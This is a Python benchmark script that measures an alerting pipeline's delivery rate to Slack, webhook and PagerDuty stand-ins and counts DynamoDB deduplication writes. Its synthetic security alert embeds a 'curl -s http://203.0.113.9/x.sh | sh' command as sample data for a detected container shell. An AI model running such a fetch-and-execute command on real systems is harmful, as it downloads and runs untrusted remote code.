"""Alert delivery's costs: alerts per second per destination, and DynamoDB writes per alert.

    python bench/delivery.py [--alerts 300] [--incidents 10] [--copies 100]

Per destination (Slack, webhook, PagerDuty): one alert after another through the real
destination code (rendering, escaping, signing) and ``send_with_retries``, to a stand-in
on 127.0.0.1 that answers at once, so the figure is our side of a delivery plus one
loopback HTTP round trip. Rendering alone is measured too (no HTTP), and the ratio of
the two says how much of a delivery is ours.

Dedup table writes: ``--incidents`` incidents with ``--copies`` copies each, from ten
hosts, through the real publisher with its deduplication windows on moto's DynamoDB
(127.0.0.1), counting the write calls (PutItem, UpdateItem, DeleteItem) per alert that
came in. SNS is answered in-process. All figures come from one run on one machine.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from cli.endpoints import Recorder, Reply  # noqa: E402
from deliver.alert import DeliveryAlert, parse_alert  # noqa: E402
from deliver.fingerprint import fingerprint  # noqa: E402
from deliver.retry import send_with_retries  # noqa: E402


def make_alert(n: int, incident: int = 0, host: str = "node-0") -> dict[str, Any]:
    return {
        "rule": f"Terminal shell in container {incident}",
        "priority": "Warning",
        "time": f"2026-12-06T10:{n // 60 % 60:02d}:{n % 60:02d}.000000000Z",
        "output": f"10:00:00.000000000: Warning A shell was spawned in a container <!here> (pid={n} "
        "cmdline=bash -c 'curl -s http://203.0.113.9/x.sh | sh')",
        "source": "syscall",
        "hostname": host,
        "tags": ["T1059.004", "container", "mitre_execution"],
        "output_fields": {
            "proc.pid": 1000 + n,
            "proc.name": "bash",
            "proc.cmdline": "bash -c 'curl -s http://203.0.113.9/x.sh | sh'",
            "user.name": "root",
            "container.id": f"{n:012x}",
            "container.name": "web",
            "k8s.pod.name": "web-7d9f8b6c5d-x2x9q",
            "k8s.ns.name": "prod",
            "evt.time": 1_795_849_200_000_000_000 + n,
        },
    }


def destinations(url: str) -> dict[str, Any]:
    from deliver.pagerduty import PagerDutyDestination
    from deliver.slack import SlackDestination
    from deliver.webhook import WebhookDestination

    secret = "whsec_" + base64.b64encode(os.urandom(32)).decode()
    return {
        "slack": SlackDestination(url),
        "webhook": WebhookDestination(url, secret),
        "pagerduty": PagerDutyDestination("R" * 32, url=url),
    }


def render_only(dest: Any, alert: DeliveryAlert, key: str) -> Any:
    """The destination's own work without the HTTP call."""
    name = dest.name
    if name == "slack":
        return dest.message(alert)
    if name == "webhook":
        from deliver.webhook import body_of

        return body_of(alert)
    from deliver.pagerduty import render

    return json.dumps(render(alert, key, "R" * 32)).encode()


def bench_destinations(n: int) -> None:
    alerts = [parse_alert(make_alert(i)) for i in range(n)]
    keys = [fingerprint(a) for a in alerts]
    print(f"delivery: {n} alerts per destination, stand-in on 127.0.0.1 answering at once")
    print(f"  {'destination':<12} {'alerts/s':>9} {'render/s':>10} {'ours':>6}")
    with Recorder(default=Reply(202, '{"status":"success","dedup_key":"x"}')) as stand_in:
        for name, dest in destinations(stand_in.url).items():
            start = time.perf_counter()
            for a, k in zip(alerts, keys, strict=True):
                outcome = send_with_retries(lambda a=a, k=k, d=dest: d.send(a, k))
                assert outcome.delivered, outcome.answer.describe()
            sent = n / (time.perf_counter() - start)
            start = time.perf_counter()
            for a, k in zip(alerts, keys, strict=True):
                render_only(dest, a, k)
            rendered = n / (time.perf_counter() - start)
            print(f"  {name:<12} {sent:>9,.0f} {rendered:>10,.0f} {sent / rendered:>6.0%}")


class CountingDynamo:
    def __init__(self, real: Any) -> None:
        self.real = real
        self.calls: Counter[str] = Counter()

    def __getattr__(self, name: str) -> Any:
        self.calls[name] += 1
        return getattr(self.real, name)


class FakeSNS:
    def publish_batch(self, TopicArn: str, PublishBatchRequestEntries: list[Any]) -> Any:
        return {"Successful": [{"Id": e["Id"]} for e in PublishBatchRequestEntries], "Failed": []}


def bench_dedup_writes(incidents: int, copies: int) -> None:
    import boto3
    from moto.server import ThreadedMotoServer

    from deliver.dedup import Deduplicator
    from functions.dedup_table import DynamoWindowStore, create_dedup_table
    from functions.publish import Publisher

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    import logging

    logging.getLogger("werkzeug").setLevel(logging.ERROR)  # no access log
    server.start()
    host, port = server.get_host_and_port()
    os.environ.update(
        {
            "AWS_ACCESS_KEY_ID": "bench",
            "AWS_SECRET_ACCESS_KEY": "bench",
            "AWS_DEFAULT_REGION": "us-east-1",
        }
    )
    try:
        real = boto3.client("dynamodb", endpoint_url=f"http://{host}:{port}")
        create_dedup_table(real, "dedup")
        ddb = CountingDynamo(real)
        publisher = Publisher(
            lambda: FakeSNS(),
            lambda: ddb,
            "arn:aws:sns:us-east-1:123456789012:alerts",
            "dedup",
            dedup=Deduplicator(DynamoWindowStore(lambda: ddb, "dedup"), 300),
        )
        docs = [
            make_alert(i, incident, f"node-{i % 10}")
            for incident in range(incidents)
            for i in range(copies)
        ]
        published = deduplicated = 0
        for doc in docs:
            r = publisher.publish([doc])
            published += r.published
            deduplicated += r.deduplicated
    finally:
        server.stop()
    writes = sum(ddb.calls[k] for k in ("put_item", "update_item", "delete_item"))
    reads = sum(ddb.calls[k] for k in ("get_item", "query"))
    n = len(docs)
    print(
        f"dedup table: {n} alerts ({incidents} incidents x {copies} copies, 10 hosts): "
        f"{published} published, {deduplicated} counted as copies"
    )
    print(
        f"  writes {writes} ({writes / n:.2f} per alert in; "
        f"{dict((k, v) for k, v in ddb.calls.items() if k != 'get_item')}), reads {reads}"
    )
    print(
        "  per published alert: 4 write requests (count refused: no window; open window; "
        "claim; mark), per copy: 1 (count); a refused conditional write is billed too"
    )


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("--alerts", type=int, default=300)
    ap.add_argument("--incidents", type=int, default=10)
    ap.add_argument("--copies", type=int, default=100)
    args = ap.parse_args()
    bench_destinations(args.alerts)
    bench_dedup_writes(args.incidents, args.copies)


if __name__ == "__main__":
    main()
